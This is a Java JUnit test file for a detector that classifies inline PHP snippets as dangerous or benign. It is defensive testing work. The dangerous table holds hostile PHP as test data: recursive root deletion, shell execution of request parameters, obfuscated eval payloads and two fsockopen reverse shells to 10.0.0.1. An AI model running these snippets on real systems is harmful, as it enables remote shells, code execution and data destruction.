package dev.cmdguard.unwrap.inline;

import static dev.cmdguard.unwrap.inline.Rows.row;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class PhpInlineTest {

  static Stream<Arguments> dangerous() {
    return Stream.of(
        row("system(\"rm -rf /\");", "shell:rm -rf /"),
        row("shell_exec($_GET[\"c\"]);", "shell~:${_GET_c}"),
        row("echo `id`;", "shell:id"),
        row("passthru('ls -la');", "shell:ls -la"),
        row("exec('whoami', $out);", "shell:whoami"),
        row("\\System('id');", "shell:id"),
        row("@popen('id', 'r');", "shell:id"),
        row("proc_open(['rm', '-rf', '/tmp/x'], [], $pipes);", "argv:[rm, -rf, /tmp/x]"),
        row("pcntl_exec('/bin/rm', ['-rf', '/']);", "argv:[/bin/rm, /]"),
        row("unlink('/etc/passwd');", "delete:/etc/passwd"),
        row(
            "copy('https://getcomposer.org/installer', 'composer-setup.php');",
            "net:copy",
            "write:composer-setup.php"),
        row("rmdir('/var/www');", "delete:/var/www"),
        row("array_map('unlink', glob('/var/www/*'));", "delete~:/var/www/*"),
        row("file_put_contents('/etc/hosts', 'x');", "write:/etc/hosts"),
        row("$f = fopen('/etc/passwd', 'a');", "write:/etc/passwd"),
        row("eval(base64_decode('c3lzdGVtKCdpZCcp'));", "eval:eval", "shell:id"),
        row(
            "eval(gzinflate(base64_decode('K64sLknN1VAvylXQLUpT0FfXtAYA')));",
            "eval:eval",
            "shell:rm -rf /"),
        row("eval(str_rot13('flfgrz(\"vq\");'));", "eval:eval", "shell:id"),
        row("$f = 'system'; $f('id');", "shell:id"),
        row("$f = 'sys' . 'tem'; $f('id');", "shell:id"),
        row("$f = $_GET['f']; $f($_GET['c']);", "opaque"),
        row("$f = '/tmp/a'; foreach ($files as $f) unlink($f);", "delete~:${f}"),
        row("call_user_func('system', 'id');", "shell:id"),
        row("call_user_func($_GET['f'], 'id');", "opaque"),
        row("assert($_POST['x']);", "eval~:assert", "opaque"),
        row("include($_GET['page']);", "eval~:include", "opaque"),
        row("$cmd = \"rm -rf \" . $_GET['d']; system($cmd);", "shell~:rm -rf ${_GET_d}"),
        row("system(\"rm -rf {$dir}/cache\");", "shell~:rm -rf ${dir}/cache"),
        row("<?php system('id'); ?> some html <?php echo 1; ?>", "shell:id"),
        row(
            "$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            "net:fsockopen",
            "shell:/bin/sh -i <&3 >&3 2>&3",
            "revshell:fsockopen"),
        row(
            "$s=fsockopen(\"10.0.0.1\",4242);$proc=proc_open(\"sh\", array(0=>$s, 1=>$s, 2=>$s),$pipes);",
            "net:fsockopen",
            "shell:sh",
            "revshell:fsockopen"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        row("echo \"hello\";"),
        row("echo json_encode(['a' => 1]);"),
        row(
            "$s = 0; while (true) { $e = fgets(STDIN); if (false === $e) break; $s += $e; } echo $s;"),
        row("print_r(array_sum([1,2,3]));"),
        row("<html><body>hello</body></html>"),
        row("echo 'system(\"rm -rf /\")';"),
        row("// system('rm -rf /');\necho 1;"),
        row("/* unlink('/etc/passwd'); */ echo 2;"),
        row("# exec('id')\necho 3;"),
        row("echo PHP_VERSION;"),
        row("echo phpversion();"),
        row("var_dump(extension_loaded('curl'));"),
        row("echo date('Y-m-d');"),
        row("echo file_get_contents('composer.json');"),
        row("$x = ['shell' => true]; print_r($x);"),
        row("echo strtoupper('abc');"),
        row("echo implode(',', array_map('strtoupper', ['a', 'b']));"),
        row("echo password_hash('x', PASSWORD_DEFAULT);"),
        row("$a = array(1, 2, 3); echo count($a);"),
        row("foreach (scandir('.') as $f) echo $f, PHP_EOL;"),
        row("echo getenv('HOME');"),
        row("echo base64_decode('aGk=');"),
        row("echo sprintf('%05d', 42);"),
        row("function f($x) { return $x * 2; } echo f(2);"),
        row("class A { public function exec() { return 1; } } echo (new A)->exec();"),
        row("echo <<<EOT\nsystem('rm -rf /')\nEOT;\n"),
        row("echo \"{$user['name']} logged in\";"),
        row("ini_set('display_errors', '1'); echo 1;"),
        row("echo md5('x');"),
        row("echo ucfirst(trim('  x '));"),
        row("var_dump(ini_get('memory_limit'));"),
        row("foreach ([1, 2] as $k => $v) echo $k, $v;"),
        row("$f = fn($x) => $x * 2; echo $f(3);"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource({"dangerous", "benign"})
  void analyses(String code, List<String> expected) {
    Rows.check(Language.PHP, code, expected);
  }

  @Test
  void tableHasAsManyBenignRowsAsDangerous() {
    Rows.assertBalanced(Stream.concat(dangerous(), benign()));
  }
}
